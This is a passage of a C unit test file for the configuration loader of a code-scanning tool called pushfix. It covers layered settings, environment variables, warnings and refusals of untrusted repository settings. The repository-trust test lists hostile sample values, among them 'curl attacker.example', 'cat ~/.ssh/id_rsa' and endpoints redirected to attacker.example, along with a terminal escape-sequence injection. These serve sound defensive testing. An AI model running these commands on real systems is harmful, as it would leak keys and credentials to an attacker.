			  "semgrep_bin = 'semgrep'  ; the one on PATH\r\n"
			  "# engine = semgrep\r\n"
			  "timeout: 17\r\n"
			  "[llm]\r\n"
			  "model = \"a\"b\"\r\n"
			  "api_key_cmd = sh;x\r\n",
			  NULL),
		0);
	assert_string_equal(c.scan.command, "flawfinder --sarif {files}");
	assert_string_equal(c.scan.semgrep_bin, "semgrep");
	assert_int_equal(c.scan.engine, PF_ENGINE_AUTO);
	assert_int_equal(c.scan.timeout, 17);
	/* Only a matching pair with no quote inside is stripped. */
	assert_string_equal(c.llm.model, "\"a\"b\"");
	/* ';' starts a comment only after a blank. */
	assert_string_equal(c.llm.api_key_cmd, "sh;x");
	pf_config_release(&c);
}

/* Layers: defaults < user < repository < local < environment. */
static void test_layer_order(void **state)
{
	struct pf_config c;
	struct pf_buf w = PF_BUF_INIT;
	char wt[300], gd[300];

	(void)state;
	snprintf(wt, sizeof(wt), "%s/repo", tmp);
	snprintf(gd, sizeof(gd), "%s/repo/.git", tmp);
	write_file("home/.config/pushfix/config.ini",
		   "[scan]\ntimeout = 1\ncontext = 11\nfilter = file\n"
		   "[llm]\nmodel = user-model\n");
	write_file("repo/.pushfix.ini",
		   "[scan]\ntimeout = 2\ncontext = 22\n");
	write_file("repo/.git/pushfix/config.ini", "[scan]\ntimeout = 3\n");

	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, &w), 0);
	assert_string_equal(w.buf, "");
	assert_int_equal(c.scan.timeout, 3);          /* local */
	assert_int_equal(c.scan.context, 22);         /* repository */
	assert_int_equal(c.scan.filter, PF_FILTER_FILE); /* user */
	assert_string_equal(c.llm.model, "user-model");
	assert_int_equal(c.scan.max_file_bytes, 1000000); /* default */
	pf_config_release(&c);

	setenv("PUSHFIX_SCAN_TIMEOUT", "4", 1);
	setenv("PUSHFIX_LLM_MODEL", "", 1);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, NULL), 0);
	assert_int_equal(c.scan.timeout, 4);  /* environment */
	assert_int_equal(c.scan.context, 22);
	assert_string_equal(c.llm.model, ""); /* set to empty */
	pf_config_release(&c);
	unsetenv("PUSHFIX_SCAN_TIMEOUT");
	unsetenv("PUSHFIX_LLM_MODEL");

	/* Outside a repository: only the user file. */
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, NULL, NULL, NULL), 0);
	assert_int_equal(c.scan.timeout, 1);
	pf_config_release(&c);

	/* No file at all: the defaults. */
	pf_remove_tree(path_of("home/.config"));
	pf_remove_tree(path_of("repo"));
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, NULL), 0);
	assert_int_equal(c.scan.timeout, 120);
	pf_config_release(&c);
	pf_buf_release(&w);
}

static void test_user_file_location(void **state)
{
	struct pf_config c;
	struct pf_buf p = PF_BUF_INIT;
	char xdg[300], want[400];

	(void)state;
	write_file("home/.config/pushfix/config.ini", "[scan]\ntimeout = 5\n");
	write_file("xdg/pushfix/config.ini", "[scan]\ntimeout = 6\n");
	snprintf(xdg, sizeof(xdg), "%s/xdg", tmp);

	assert_int_equal(pf_config_user_file(&p), 0);
	snprintf(want, sizeof(want), "%s/home/.config/pushfix/config.ini",
		 tmp);
	assert_string_equal(p.buf, want);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, NULL, NULL, NULL), 0);
	assert_int_equal(c.scan.timeout, 5);
	pf_config_release(&c);

	setenv("XDG_CONFIG_HOME", xdg, 1);
	pf_buf_reset(&p);
	assert_int_equal(pf_config_user_file(&p), 0);
	snprintf(want, sizeof(want), "%s/xdg/pushfix/config.ini", tmp);
	assert_string_equal(p.buf, want);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, NULL, NULL, NULL), 0);
	assert_int_equal(c.scan.timeout, 6);
	pf_config_release(&c);

	/* A relative XDG_CONFIG_HOME is invalid (XDG spec): ignored. */
	setenv("XDG_CONFIG_HOME", "xdg", 1);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, NULL, NULL, NULL), 0);
	assert_int_equal(c.scan.timeout, 5);
	pf_config_release(&c);
	unsetenv("XDG_CONFIG_HOME");

	unsetenv("HOME");
	pf_buf_reset(&p);
	assert_int_equal(pf_config_user_file(&p), PF_ENOTFOUND);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, NULL, NULL, NULL), 0);
	assert_int_equal(c.scan.timeout, 120);
	pf_config_release(&c);
	pf_buf_release(&p);
}

static void test_pushfix_config_replaces_files(void **state)
{
	struct pf_config c;
	char wt[300], gd[300], want[600];
	const char *only;

	(void)state;
	snprintf(wt, sizeof(wt), "%s/repo", tmp);
	snprintf(gd, sizeof(gd), "%s/repo/.git", tmp);
	write_file("home/.config/pushfix/config.ini",
		   "[scan]\ncontext = 11\n");
	write_file("repo/.pushfix.ini", "[scan]\nfilter = all\n");
	write_file("repo/.git/pushfix/config.ini", "[core]\nverbose = 1\n");
	only = write_file("only.ini", "[scan]\ntimeout = 8\n");
	setenv("PUSHFIX_CONFIG", only, 1);
	setenv("PUSHFIX_SCAN_ENGINE", "semgrep", 1);

	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, NULL), 0);
	assert_int_equal(c.scan.timeout, 8);
	assert_int_equal(c.scan.context, 3);           /* user file unread */
	assert_int_equal(c.scan.filter, PF_FILTER_ADDED); /* repo unread */
	assert_int_equal(c.core.verbose, 0);           /* local unread */
	assert_int_equal(c.scan.engine, PF_ENGINE_SEMGREP); /* env still */
	pf_config_release(&c);

	/* /dev/null: defaults and the environment only. */
	setenv("PUSHFIX_CONFIG", "/dev/null", 1);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, NULL), 0);
	assert_int_equal(c.scan.timeout, 120);
	assert_int_equal(c.scan.context, 3);
	pf_config_release(&c);

	/* Missing: an error naming the file and the variable. */
	setenv("PUSHFIX_CONFIG", path_of("missing.ini"), 1);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, NULL), PF_ENOTFOUND);
	snprintf(want, sizeof(want),
		 "PUSHFIX_CONFIG: cannot open '%s': No such file or directory",
		 path_of("missing.ini"));
	assert_string_equal(pf_error_last(), want);
	pf_config_release(&c);

	/* Empty: as if unset. */
	setenv("PUSHFIX_CONFIG", "", 1);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, NULL), 0);
	assert_int_equal(c.scan.context, 11);
	assert_int_equal(c.scan.filter, PF_FILTER_ALL);
	assert_int_equal(c.core.verbose, 1);
	pf_config_release(&c);
}

/* A bad variable costs that key only: a warning, and the key keeps what
 * the files gave it. */
static void test_env_errors_and_warnings(void **state)
{
	struct pf_config c;
	struct pf_buf w = PF_BUF_INIT;

	(void)state;
	write_file("home/.config/pushfix/config.ini", "[scan]\nfilter = file\n");
	setenv("PUSHFIX_SCAN_FILTER", "ad", 1);
	setenv("PUSHFIX_SCAN_CONTEXT", "7", 1);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, NULL, NULL, &w), 0);
	assert_string_equal(w.buf, "warning: environment variable "
				   "PUSHFIX_SCAN_FILTER: unknown value 'ad' "
				   "(expected added, context, file or all); "
				   "keeping file\n");
	assert_int_equal(c.scan.filter, PF_FILTER_FILE);
	assert_int_equal(c.scan.context, 7);
	pf_config_release(&c);
	unsetenv("PUSHFIX_SCAN_FILTER");
	unsetenv("PUSHFIX_SCAN_CONTEXT");
	pf_remove_tree(path_of("home/.config"));

	pf_buf_reset(&w);
	setenv("PUSHFIX_LLM_TIMEOUT", "0", 1);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, NULL, NULL, &w), 0);
	assert_string_equal(w.buf, "warning: environment variable "
				   "PUSHFIX_LLM_TIMEOUT: 0 is out of range "
				   "(expected 1 to 3600); keeping 30\n");
	assert_int_equal(c.llm.timeout, 30);
	pf_config_release(&c);
	unsetenv("PUSHFIX_LLM_TIMEOUT");

	pf_buf_reset(&w);
	setenv("PUSHFIX_LLM_API_KEY_ENV", "sk-live-1234", 1);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, NULL, NULL, &w), 0);
	assert_string_equal(w.buf, "warning: environment variable "
				   "PUSHFIX_LLM_API_KEY_ENV: expected the name "
				   "of an environment variable (letters, "
				   "digits, _), not its value; keeping it "
				   "empty\n");
	assert_null(strstr(w.buf, "sk-live"));
	pf_config_release(&c);
	unsetenv("PUSHFIX_LLM_API_KEY_ENV");

	/* A misspelt variable is said, not silently ignored; other
	 * PUSHFIX_* variables (PUSHFIX_SKIP, PUSHFIX_BIN...) are not ours. */
	pf_buf_reset(&w);
	setenv("PUSHFIX_SCAN_TIMOUT", "5", 1);
	setenv("PUSHFIX_SKIP", "1", 1);
	setenv("PUSHFIX_FOO_BAR", "1", 1);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, NULL, NULL, &w), 0);
	assert_string_equal(w.buf, "warning: environment variable "
				   "PUSHFIX_SCAN_TIMOUT: unknown key 'timout' "
				   "in [scan] (did you mean 'timeout'?)\n");
	pf_config_release(&c);
	pf_buf_release(&w);
}

/* The committed .pushfix.ini may not run commands or redirect data. */
static void test_repository_file_untrusted(void **state)
{
	static const char *const trusted[][2] = {
		{ "scan", "command = sh -c evil" },
		{ "scan", "semgrep_bin = ./evil" },
		{ "llm", "base_url = https://attacker.example/v1" },
		{ "llm", "api_key_env = AWS_SECRET_ACCESS_KEY" },
		{ "llm", "api_key_cmd = curl attacker.example" },
		{ "privacy", "redact_paths = none" },
		{ "privacy", "allow_hosts = corp.internal" },
		{ "privacy", "log_vault = true" },
		{ "mirror", "api_url = https://attacker.example" },
		{ "mirror", "repository = attacker/loot" },
		{ "mirror", "token_env = AWS_SECRET_ACCESS_KEY" },
		{ "mirror", "token_cmd = cat ~/.ssh/id_rsa" },
		{ "mirror", "slack_webhook_env = AWS_SECRET_ACCESS_KEY" },
	};
	struct pf_config c, def;
	struct pf_buf w = PF_BUF_INIT, a = PF_BUF_INIT, b = PF_BUF_INIT;
	char wt[300], gd[300], text[256], want[1024];

	(void)state;
	snprintf(wt, sizeof(wt), "%s/repo", tmp);
	snprintf(gd, sizeof(gd), "%s/repo/.git", tmp);
	pf_config_init(&def);
	pf_config_dump(&def, &a);
	for (size_t i = 0; i < PF_ARRAY_SIZE(trusted); i++) {
		snprintf(text, sizeof(text), "[%s]\n%s\n", trusted[i][0],
			 trusted[i][1]);
		write_file("repo/.pushfix.ini", text);
		pf_buf_reset(&w);
		pf_buf_reset(&b);
		pf_config_init(&c);
		assert_int_equal(pf_config_load(&c, wt, gd, &w), 0);
		snprintf(want, sizeof(want),
			 "warning: '.pushfix.ini' line 2: ignoring [%s] %.*s: "
			 "a file in the repository may not run commands or "
			 "choose where code, keys or tokens go; set it in "
			 ".git/pushfix/config.ini or "
			 "~/.config/pushfix/config.ini\n",
			 trusted[i][0],
			 (int)strcspn(trusted[i][1], " "), trusted[i][1]);
		assert_string_equal(w.buf, want);
		pf_config_dump(&c, &b);
		assert_string_equal(a.buf, b.buf); /* nothing changed */
		pf_config_release(&c);
	}
	/* The same keys are fine in the local file... */
	pf_remove_tree(path_of("repo/.pushfix.ini"));
	write_file("repo/.git/pushfix/config.ini",
		   "[scan]\ncommand = flawfinder --sarif {files}\n");
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, NULL), 0);
	assert_string_equal(c.scan.command, "flawfinder --sarif {files}");
	pf_config_release(&c);
	/* ...and team settings are fine in the repository file. */
	write_file("repo/.pushfix.ini",
		   "[scan]\nengine = sarif\nfilter = context\n"
		   "semgrep_config = .semgrep.yml\n[llm]\nprovider = openai\n"
		   "model = gpt-4o-mini\n[policy]\nblock = error\n"
		   "[privacy]\nredact_words = northwind\n");
	pf_buf_reset(&w);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, &w), 0);
	assert_string_equal(w.buf, "");
	assert_int_equal(c.scan.engine, PF_ENGINE_SARIF);
	assert_int_equal(c.scan.filter, PF_FILTER_CONTEXT);
	assert_string_equal(c.scan.semgrep_config, ".semgrep.yml");
	assert_string_equal(c.llm.provider, "openai");
	assert_int_equal(c.policy.block, PF_BLOCK_ERROR);
	assert_string_equal(c.privacy.redact_words, "northwind");
	assert_string_equal(c.scan.command, "flawfinder --sarif {files}");
	pf_config_release(&c);
	/* Secrets are refused in the repository file too: that line alone,
	 * never echoed. */
	write_file("repo/.pushfix.ini",
		   "[llm]\napi_key = sk-1\n[scan]\ncontext = 9\n");
	pf_buf_reset(&w);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, &w), 0);
	assert_true(pf_starts_with(w.buf,
				   "warning: '.pushfix.ini' line 2: [llm] "
				   "api_key: secrets do not belong"));
	assert_true(pf_ends_with(w.buf, "; the line is ignored\n"));
	assert_null(strstr(w.buf, "sk-1"));
	assert_int_equal(c.scan.context, 9);
	pf_config_release(&c);
	pf_config_release(&def);
	pf_buf_release(&w);
	pf_buf_release(&a);
	pf_buf_release(&b);
}

/* A bad value costs that key only: a warning naming file, line, key and
 * the allowed values, and the key keeps what the layers below gave it;
 * file names in messages read as the user knows them. */
static void test_bad_value_costs_its_key(void **state)
{
	struct pf_config c;
	struct pf_buf w = PF_BUF_INIT;
	char wt[300], gd[300];

	(void)state;
	snprintf(wt, sizeof(wt), "%s/repo", tmp);
	snprintf(gd, sizeof(gd), "%s/repo/.git", tmp);
	write_file("home/.config/pushfix/config.ini", "[scan]\ntimeout = 5\n");
	write_file("repo/.pushfix.ini", "[scan]\ncontext = x\n"
					"timeout = banana\nfilter = file\n");
	write_file("repo/.git/pushfix/config.ini",
		   "[policy]\non_error = block\n\n[ui]\ncolor = pink\n");
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, &w), 0);
	assert_string_equal(
		w.buf,
		"warning: '.pushfix.ini' line 2: [scan] context: 'x' is not a "
		"whole number (expected 0 to 1000); keeping 3\n"
		"warning: '.pushfix.ini' line 3: [scan] timeout: 'banana' is "
		"not a whole number (expected 1 to 86400); keeping 5\n"
		"warning: '.git/pushfix/config.ini' line 5: [ui] color: "
		"unknown value 'pink' (expected auto, always or never); "
		"keeping auto\n");
	assert_int_equal(c.scan.context, 3);
	assert_int_equal(c.scan.timeout, 5);		 /* user file */
	assert_int_equal(c.scan.filter, PF_FILTER_FILE); /* the good line */
	assert_int_equal(c.policy.on_error_block, 1);
	assert_int_equal(c.ui.color, PF_AUTO);
	pf_config_release(&c);

	/* A linked worktree's common dir is elsewhere: the full path. */
	{
		char other[300], want[600];

		snprintf(other, sizeof(other), "%s/elsewhere.git", tmp);
		write_file("elsewhere.git/pushfix/config.ini",
			   "[ui]\ncolor = pink\n");
		pf_remove_tree(path_of("repo/.pushfix.ini"));
		pf_buf_reset(&w);
		pf_config_init(&c);
		assert_int_equal(pf_config_load(&c, wt, other, &w), 0);
		snprintf(want, sizeof(want),
			 "warning: '%s/elsewhere.git/pushfix/config.ini' "
			 "line 2: [ui] color: unknown value 'pink' (expected "
			 "auto, always or never); keeping auto\n",
			 tmp);
		assert_string_equal(w.buf, want);
		pf_config_release(&c);
	}

	/* Lines that are not INI, or too long: those lines only. */
	write_file("repo/.pushfix.ini", "[scan\ncontext = 4\nthis is not ini\n"
					"[policy]\nblock = error\n");
	pf_buf_reset(&w);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, &w), 0);
	assert_non_null(strstr(w.buf, "warning: '.pushfix.ini' line 1: "
				      "expected 'key = value', '[section]' or "
				      "a comment; the line is ignored\n"));
	assert_non_null(strstr(w.buf, "warning: '.pushfix.ini' line 3: "
				      "expected 'key = value', '[section]' or "
				      "a comment; the line is ignored\n"));
	assert_int_equal(c.policy.block, PF_BLOCK_ERROR);
	assert_int_equal(c.policy.on_error_block, 1);
	pf_config_release(&c);
	pf_buf_release(&w);
}

/*
 * A file that cannot be read is an error, yet every other layer still
 * applies: the user's own on_error = block survives whatever is broken.
 * The committed file is never an error: refused or unreadable, it is a
 * warning, and nothing of a refused file is shown.
 */
static void test_broken_layer_keeps_the_others(void **state)
{
	struct pf_config c;
	struct pf_buf w = PF_BUF_INIT;
	char wt[300], gd[300], want[600], *big;
	const char *outside;

	(void)state;
	snprintf(wt, sizeof(wt), "%s/repo", tmp);
	snprintf(gd, sizeof(gd), "%s/repo/.git", tmp);
	write_file("repo/.git/pushfix/config.ini",
		   "[policy]\non_error = block\n");
	assert_int_equal(pf_mkdir_p(path_of("home/.config/pushfix/config.ini"),
				    0700),
			 0);
	write_file("repo/.pushfix.ini", "[scan]\ncontext = 9\n");
	pf_config_init(&c);
	assert_true(pf_config_load(&c, wt, gd, NULL) < 0);
	snprintf(want, sizeof(want),
		 "'%s/home/.config/pushfix/config.ini' is a directory (only a "
		 "regular file is read)",
		 tmp);
	assert_string_equal(pf_error_last(), want);
	assert_int_equal(c.policy.on_error_block, 1);
	assert_int_equal(c.scan.context, 9);
	pf_config_release(&c);
	pf_remove_tree(path_of("home/.config"));

	/* A link to a file outside the work tree: refused unread. */
	outside = write_file("outside/shadow",
			     "root:$6$secret:19000\n[policy]\n"
			     "on_error = allow\n");
	pf_remove_tree(path_of("repo/.pushfix.ini"));
	assert_int_equal(symlink(outside, path_of("repo/.pushfix.ini")), 0);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, &w), 0);
	assert_string_equal(w.buf, "warning: '.pushfix.ini' is a symbolic "
				   "link (only a regular file is read); the "
				   "file is ignored\n");
	assert_int_equal(c.policy.on_error_block, 1);
	pf_config_release(&c);
	unlink(path_of("repo/.pushfix.ini"));

	/* Too big. */
	big = malloc(1 << 20);
	assert_non_null(big);
	memset(big, '#', (1 << 20) - 1);
	big[(1 << 20) - 1] = '\0';
	write_file("repo/.pushfix.ini", big);
	free(big);
	pf_buf_reset(&w);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, &w), 0);
	assert_string_equal(w.buf, "warning: '.pushfix.ini' is larger than "
				   "64 KiB: not a configuration file; the file "
				   "is ignored\n");
	pf_config_release(&c);

	/* Not text: no line of it is taken. */
	pf_remove_tree(path_of("repo/.pushfix.ini"));
	{
		FILE *f = fopen(path_of("repo/.pushfix.ini"), "wb");

		assert_non_null(f);
		fwrite("[scan]\ncontext = 9\n\0\n", 1, 21, f);
		fclose(f);
	}
	pf_buf_reset(&w);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, &w), 0);
	assert_string_equal(w.buf, "warning: cannot parse '.pushfix.ini' line "
				   "3: NUL byte (not a text file?); the file "
				   "is ignored\n");
	assert_int_equal(c.scan.context, 3);
	pf_config_release(&c);

	/* A FIFO, committed or named by PUSHFIX_CONFIG: refused at once,
	 * never read (a read would block forever). */
	pf_remove_tree(path_of("repo/.pushfix.ini"));
	assert_int_equal(mkfifo(path_of("repo/.pushfix.ini"), 0600), 0);
	pf_buf_reset(&w);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, &w), 0);
	assert_string_equal(w.buf, "warning: '.pushfix.ini' is a FIFO (only a "
				   "regular file is read); the file is "
				   "ignored\n");
	pf_config_release(&c);
	setenv("PUSHFIX_CONFIG", path_of("repo/.pushfix.ini"), 1);
	setenv("PUSHFIX_POLICY_ON_ERROR", "block", 1);
	pf_config_init(&c);
	assert_int_equal(pf_config_load(&c, wt, gd, NULL), PF_EINVALID);
	snprintf(want, sizeof(want),
		 "PUSHFIX_CONFIG: '%s' is a FIFO (only a regular file is "
		 "read)",
		 path_of("repo/.pushfix.ini"));
	assert_string_equal(pf_error_last(), want);
	assert_int_equal(c.policy.on_error_block, 1); /* the environment */
	pf_config_release(&c);
	unsetenv("PUSHFIX_CONFIG");
	unsetenv("PUSHFIX_POLICY_ON_ERROR");
	pf_buf_release(&w);
}

/* A near-miss name gets a guess; the escape sequences of a committed
 * file never reach the terminal. */
static void test_suggestions_and_control_bytes(void **state)
{
	struct pf_config c;
	struct pf_buf w = PF_BUF_INIT;
	const char *f;
	char want[1024];

	(void)state;
	f = write_file("s.ini", "[polcy]\non_error = block\n"
				"[scan]\non_error = block\nfiltr = all\n"
				"ab = 1\n\x1b]0;pwned\x07 = 1\n");
	pf_config_init(&c);
	assert_int_equal(pf_config_load_file(&c, f, &w), 0);
	snprintf(want, sizeof(want),
		 "warning: '%s' line 2: unknown section [polcy] (did you "
		 "mean [policy]?)\n"
		 "warning: '%s' line 4: unknown key 'on_error' in [scan] "
		 "(did you mean [policy] on_error?)\n"
		 "warning: '%s' line 5: unknown key 'filtr' in [scan] (did "
		 "you mean 'filter'?)\n"
		 "warning: '%s' line 6: unknown key 'ab' in [scan]\n"
		 "warning: '%s' line 7: unknown key '?]0;pwned?' in [scan]\n",
		 f, f, f, f, f);
	assert_string_equal(w.buf, want);
	pf_config_release(&c);

	/* A file of junk shows ten warnings and a count, not a flood. */
	{
		struct pf_buf junk = PF_BUF_INIT;

		pf_buf_addstr(&junk, "[scan]\n");
		for (int i = 0; i < 30; i++)
			pf_buf_addf(&junk, "junk%d = 1\n", i);
		f = write_file("junk.ini", junk.buf);
		pf_buf_release(&junk);
	}
	pf_buf_reset(&w);
	pf_config_init(&c);
	assert_int_equal(pf_config_load_file(&c, f, &w), 0);
	snprintf(want, sizeof(want),
		 "warning: '%s' line 11: unknown key 'junk9' in [scan]\n"
		 "warning: '%s': 20 more warnings not shown\n",
		 f, f);
	assert_true(pf_ends_with(w.buf, want));
	pf_config_release(&c);
	pf_buf_release(&w);
}

static void test_set_api(void **state)
{
	struct pf_config c;

	(void)state;
	pf_config_init(&c);
	assert_int_equal(pf_config_set(&c, "scan", "filter", "file",
				       "--filter"),
			 0);
	assert_int_equal(c.scan.filter, PF_FILTER_FILE);
	assert_int_equal(pf_config_set(&c, "scan", "filter", "x", "--filter"),
			 PF_EINVALID);
	assert_string_equal(pf_error_last(),
			    "cannot parse option --filter: unknown value 'x' "
			    "(expected added, context, file or all)");
	assert_int_equal(c.scan.filter, PF_FILTER_FILE); /* unchanged */
	assert_int_equal(pf_config_set(&c, "scan", "timeout", "0",
				       "team.ini:7"),
			 PF_EINVALID);
	assert_string_equal(pf_error_last(),
			    "cannot parse 'team.ini' line 7: [scan] timeout: 0 is "
			    "out of range (expected 1 to 86400)");
	assert_int_equal(pf_config_set(&c, "scan", "timeout", "0",
				       "PUSHFIX_SCAN_TIMEOUT"),
			 PF_EINVALID);
	assert_string_equal(pf_error_last(),
			    "cannot parse environment variable "
			    "PUSHFIX_SCAN_TIMEOUT: 0 is out of range (expected 1 "
			    "to 86400)");
	assert_int_equal(pf_config_set(&c, "scan", "timeout", "0", NULL),
			 PF_EINVALID);
	assert_string_equal(pf_error_last(),
			    "[scan] timeout: 0 is out of range (expected 1 to "
			    "86400)");
	assert_int_equal(pf_config_set(&c, "scan", "nope", "1", NULL),
			 PF_ENOTFOUND);
	assert_string_equal(pf_error_last(), "unknown key 'nope' in [scan]");
	assert_int_equal(pf_config_set(&c, "nope", "x", "1", NULL),
			 PF_ENOTFOUND);
	assert_string_equal(pf_error_last(), "unknown section [nope]");
	assert_int_equal(pf_config_set(&c, "SCAN", "Timeout", "9", NULL), 0);
	assert_int_equal(c.scan.timeout, 9);
	pf_config_release(&c);
}

/* dump -> load gives the same config, for the defaults, for every key
 * changed, and for values that need quoting. */
static void test_dump_round_trip(void **state)
{
	struct pf_config c, d;
	struct pf_buf a = PF_BUF_INIT, b = PF_BUF_INIT, w = PF_BUF_INIT;

	(void)state;
	for (int round = 0; round < 3; round++) {
		pf_config_init(&c);
		if (round >= 1)
			assert_int_equal(load_text(&c, "e.ini", every_key,
						   NULL),
					 0);
		if (round == 2) {
			assert_int_equal(pf_config_set(&c, "llm", "model",
						       " spaced ", NULL),
					 0);
			assert_int_equal(pf_config_set(&c, "scan", "command",
						       "'quoted'", NULL),
					 0);
			assert_int_equal(pf_config_set(&c, "llm", "api_version",
						       "#hash", NULL),
					 0);
			assert_int_equal(
				pf_config_set(&c, "llm",
					      "autofix_min_confidence",
					      "0.123456789012345678", NULL),
				0);
			assert_int_equal(
				pf_config_set(&c, "privacy", "redact_words",
					      "alpha,beta,gamma,delta,epsilon,"
					      "zeta,eta,theta,iota,kappa,lambda,"
					      "mu,nu,xi,omicron,pi,rho,sigma,"
					      "tau,upsilon,phi,chi,psi,omega",
					      NULL),
				0);
		}
		pf_buf_reset(&a);
		pf_buf_reset(&b);
		pf_buf_reset(&w);
		pf_config_dump(&c, &a);
		pf_config_init(&d);
		assert_int_equal(load_text(&d, "dump.ini", a.buf, &w), 0);
		assert_string_equal(w.buf, "");
		pf_config_dump(&d, &b);
		assert_string_equal(a.buf, b.buf);
		if (round == 1)
			check_every_key(&d);
		if (round == 2) {
			assert_string_equal(d.llm.model, " spaced ");
			assert_string_equal(d.scan.command, "'quoted'");
			assert_string_equal(d.llm.api_version, "#hash");
			assert_true(d.llm.autofix_min_confidence ==
				    c.llm.autofix_min_confidence);
			assert_string_equal(d.privacy.redact_words,
					    c.privacy.redact_words);
		}
		pf_config_release(&c);
		pf_config_release(&d);
	}
	pf_buf_release(&a);
	pf_buf_release(&b);
	pf_buf_release(&w);
}

/* config.ini.example: every key, under its section, with its real
 * default as a commented line ";key = default" (the dump's own text), and
 * nothing else; uncommented it loads without a warning to the defaults. */
static void test_example_documents_every_key(void **state)
{
	struct pf_buf ex = PF_BUF_INIT, dump = PF_BUF_INIT;
	struct pf_buf keys = PF_BUF_INIT, un = PF_BUF_INIT, w = PF_BUF_INIT;
	struct pf_buf again = PF_BUF_INIT;
	struct pf_config c;
	char path[1024];
	const char *src = __FILE__;

	(void)state;
	/* __FILE__ is tests/unit/test_config.c relative to the top. */
	snprintf(path, sizeof(path), "%.*sconfig.ini.example",
		 (int)(strstr(src, "tests/unit/") - src), src);
	if (pf_buf_read_file(&ex, path, 0))
		fail_msg("%s (run the tests from the top of the tree)",
			 pf_error_last());
	pf_config_init(&c);
	pf_config_dump(&c, &dump);

	/* The example's section headers and commented key lines (a key line
	 * starts ";name =" or ";\t" for a list's continuation, a prose
	 * comment "; ") must be exactly the dump. */
	for (const char *p = ex.buf; *p;) {
		size_t n = strcspn(p, "\n");

		if (p[0] == '[') {
			if (keys.len)
				pf_buf_addch(&keys, '\n');
			pf_buf_add(&keys, p, n);
			pf_buf_addch(&keys, '\n');
		} else if (p[0] == ';' && n > 1 && p[1] != ' ') {
			pf_buf_add(&keys, p + 1, n - 1);
			pf_buf_addch(&keys, '\n');
		} else if (n && p[0] != ';') {
			fail_msg("config.ini.example: line not a comment, a "
				 "section or a commented key: %.*s",
				 (int)n, p);
		}
		if (p[0] == ';' && n > 1 && p[1] != ' ')
			pf_buf_add(&un, p + 1, n - 1);
		else
			pf_buf_add(&un, p, n);
		pf_buf_addch(&un, '\n');
		p += n + (p[n] == '\n');
	}
	assert_string_equal(keys.buf, dump.buf);

	pf_config_release(&c);
	pf_config_init(&c);
	assert_int_equal(load_text(&c, "example.ini", un.buf, &w), 0);
	assert_string_equal(w.buf, "");
	pf_config_dump(&c, &again);
	assert_string_equal(again.buf, default_dump);
	pf_config_release(&c);
	pf_buf_release(&ex);
	pf_buf_release(&dump);
	pf_buf_release(&keys);
	pf_buf_release(&un);
	pf_buf_release(&w);
	pf_buf_release(&again);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
		T(test_defaults),
		T(test_default_dump),
		T(test_every_key_from_file),
		T(test_every_key_from_env),
		T(test_booleans),
		T(test_enum_errors),
		T(test_enum_spellings),
		T(test_number_errors),
		T(test_confidence),
		T(test_strings_validated),
		T(test_unknown_keys_warn),
		T(test_secrets_refused),
		T(test_lists_and_indentation),
		T(test_syntax_errors),
		T(test_long_line_and_nul),
		T(test_crlf_bom_quotes_comments),
		T(test_layer_order),
		T(test_user_file_location),
		T(test_pushfix_config_replaces_files),
		T(test_env_errors_and_warnings),
		T(test_repository_file_untrusted),
		T(test_bad_value_costs_its_key),
		T(test_broken_layer_keeps_the_others),
		T(test_suggestions_and_control_bytes),
		T(test_set_api),
		T(test_dump_round_trip),
		T(test_example_documents_every_key),
#undef T
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
